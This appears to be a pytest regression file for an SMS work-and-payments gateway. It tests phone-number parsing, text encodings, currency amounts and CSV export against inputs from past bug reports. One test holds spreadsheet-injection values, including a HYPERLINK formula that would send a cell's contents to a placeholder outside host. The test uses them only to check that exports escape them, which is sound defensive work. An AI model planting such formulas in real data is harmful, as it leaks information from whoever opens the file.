"""Inputs of public bug reports of other systems, each sent the way it came in.

The faults that they once caused here, they cause no more.
"""

from dataclasses import replace

import pytest
from pydantic import SecretStr

from gateway.base.errors import Refused
from gateway.payments.reconciliation.statement_csv import Columns, lines
from gateway.sms.channels import http
from gateway.steps.people import register
from gateway.steps.runtime import Channel
from tests.support.town import PARTNER, eventually

GET = {"sender": "21512", "url": "http://127.0.0.1:1", "insecure": True, "form": {"to": "{to}"},
       "incoming": {"id": "msgid", "sender": "msisdn", "to": "shortcode", "text": "message"}}  # fmt: skip


@pytest.fixture
def channel(town):
    """A channel by GET whose fields are named by settings."""
    town.rt.channels["get"] = Channel("get", SecretStr("s"), http.make("get", GET), None)
    yield town
    town.rt.channels.pop("get")


async def numbers(town):
    rows = await town.rt.db.rows("select msisdn_sealed from worker order by id")
    return [town.rt.vault.open(row["msisdn_sealed"]) for row in rows]


async def test_a_number_that_a_spreadsheet_made_a_decimal(town):
    """`254722345678.0` once was +2547223456780: another person was invited."""
    await register.expect_worker(town.rt, "254722345678.0", "phone", PARTNER, name="Flo")
    await town["wanjiku"].texts("ADD 254711000008.0 Ann")
    assert await numbers(town) == ["+254722345678", "+254711000008"]
    for longer in ("0712345678 ext 5", "0712345678/9", "2.54711000031e11"):
        with pytest.raises(Refused, match="not a phone number"):
            await register.expect_worker(town.rt, longer, "phone", PARTNER)


async def test_a_number_with_a_digit_too_few_or_too_many(town):
    for said in ("071100000 Cate", "07110000 Ben", "07110000099 Dan"):
        assert "is not a phone number" in await town["wanjiku"].texts(f"ADD {said}")
    assert await numbers(town) == []
    for said in ("0112345678 Eve", "0799123456 Fay"):
        assert "invited" in await town["wanjiku"].texts(f"ADD {said}")
    assert await numbers(town) == ["+254112345678", "+254799123456"]


async def test_a_short_code_is_no_worker_in_uganda(town):
    there = replace(town.rt, settings=town.rt.settings.model_copy(update={"region": "UG"}))
    with pytest.raises(Refused, match="not a phone number"):
        await register.expect_worker(there, "20880", "phone", PARTNER, name="Kim")
    assert await town.meets("code", "20880").texts("JOIN KIBERA") is None
    assert await numbers(town) == []


@pytest.mark.parametrize(
    ("said", "number"),
    [
        ("\u202a+254711000003\u202c Juma", "+254711000003"),
        ("+254\u2011711\u2011000\u2011004 Halima", "+254711000004"),
        ("0711\u2013000\u2013005 Peter", "+254711000005"),
        ("\u0660\u0667\u0661\u0661\u0660\u0660\u0660\u0660\u0660\u0666 Musa", "+254711000006"),
        ("0711000014\u200b Hal", "+254711000014"),
    ],
)
async def test_a_number_that_was_pasted_from_a_phone_book(town, said, number):
    reply = await town["wanjiku"].texts(f"ADD {said}")
    assert "invited" in reply
    assert said.split()[-1] in reply
    assert await numbers(town) == [number]


async def test_an_answer_in_percent_encoded_latin_1(channel):
    """`pas s%FBr` is French for not sure."""
    amina = await channel.enrols("amina", "fr")
    await channel.posts_batch("Est-ce ouvert?")
    await amina.texts("TRAVAIL")
    await channel.answers_bells()  # an answer counts when its question was handed over
    query = f"msgid=L2&msisdn=%2B{amina.msisdn[1:]}&shortcode=21512&message=pas%20s%FBr"
    assert (await channel.http.get(f"/in/get/s/sms?{query}")).status_code == 200
    assert await amina.values() == ["unsure"]


def test_a_payment_of_a_currency_without_cents():
    """`-5.000` in Uganda is five thousand shillings; it once was five."""
    columns = Columns(
        receipt="Id", at="Date", amount="Amount", fee="Fee", number="To", status="Status", done="Successful", kind="Type", payment="Transfer",
        time="%Y-%m-%dT%H:%M:%S", zone="Africa/Kampala",
    )  # fmt: skip
    header = "Id;External id;Date;Status;Type;To;Amount;Fee;Balance"
    row = "M3;;2026-11-30T10:00:00;Successful;Transfer;256772123456;-5.000;0;"
    (line,) = lines(f"{header}\n{row}\n".encode(), columns, "UGX")
    assert line.amount_minor == 5_000


async def test_numbers_that_no_database_holds_are_refused_by_field(town):
    draft = await town.client.drafts()
    task = [{"id": "1", "text": "a", "audience": {"workers": [9223372036854775808]}}]
    answer = await town.client.asks("POST", f"/batches/{draft.id}/tasks", json=task)
    assert answer.status_code == 422
    assert "audience.workers" in answer.text
    dear = await town.client.drafts(price=999999999999, policy="fixed:9")
    tasks = [{"id": str(n), "text": f"Is {n} a number?"} for n in range(12_000)]
    assert (await town.client.asks("POST", f"/batches/{dear.id}/tasks", json=tasks)).is_success
    answer = await town.client.asks("POST", f"/batches/{dear.id}/start")
    assert answer.status_code in (402, 422)
    assert "KES" in answer.text
    for path in ("/hooks/p/%00", "/hooks/p/%FF", "/hooks/o/%00/x"):
        assert (await town.http.post(path, content=b"{}")).status_code == 404


HOOKED = [
    {"id": "tailor", "labels": {"en": "Tailor", "ha": "\u018ainki"}},
    {"id": "smith", "labels": {"en": "Smith", "ha": "\u0198ira"}},
]


@pytest.mark.parametrize(
    ("said", "value"),
    [("dinki", "tailor"), ("DINKI", "tailor"), ("d'inki", "tailor"), ("kira", "smith"), ("K'ira", "smith"), ("\u0199ira", "smith")],
)  # fmt: skip
async def test_hooked_letters_typed_on_a_phone_without_them(town, said, value):
    amina = await town.enrols("amina", "ha")
    await town.posts_batch("Me yake yi?", kind="categorisation", options=HOOKED)
    await amina.texts("AIKI")
    await amina.texts(said)
    assert await amina.values() == [value]


async def test_options_that_differ_by_hooks_only_are_refused(town):
    options = [{"id": "a", "labels": {"ha": "\u018ainki"}}, {"id": "b", "labels": {"ha": "Dinki"}}]
    body = {"name": "x", "kind": "categorisation", "instructions": "Which?", "price": "3.00"}
    answer = await town.client.asks("POST", "/batches", json={**body, "options": options})
    assert answer.status_code == 422
    assert "read the same in 'ha'" in answer.text


@pytest.mark.parametrize(
    "said",
    ['=HYPERLINK("http://x.example/?"&A1,"open")', "@SUM(1+1)*2", "+254 is the code", "-2+3 eggs"],
)
async def test_an_answer_that_a_spreadsheet_would_execute(town, said):
    amina = await town.enrols("amina")
    batch = await town.posts_batch("line 1", kind="transcription")
    await amina.texts("WORK")
    await amina.texts(said)
    assert (await batch.results())["t1"]["value"] == said, "JSON is unchanged"
    table = (await town.client.asks("GET", f"/batches/{batch.id}/results?format=csv")).text
    cell = table.splitlines()[1].split(",", 2)[2].lstrip('"')
    assert cell.startswith(f"'{said[0]}")


@pytest.mark.parametrize(
    ("said", "minor"),
    [("PAY 1 000", 100_000), ("PAY 1,000.00", 100_000), ("PAY 20\u200b", 2_000), ("PAY \u200f20", 2_000), ("PAY 1.000", None)],
)  # fmt: skip
async def test_an_amount_as_it_is_typed(town, said, minor):
    amina = await town.enrols("amina")
    await town.posts_batch("Is it open?", price="1500.00")
    await amina.texts("WORK")
    await amina.texts("1")
    await amina.texts(said)
    asked = await town.rt.db.rows("select amount from payout")
    assert [row["amount"] for row in asked] == ([minor] if minor else [])
    if minor:

        async def paid():
            await town.ticks(seconds=20)
            return await town.count("payout", "state = 'paid'")

        await eventually(paid)
    await town.has_right_books()
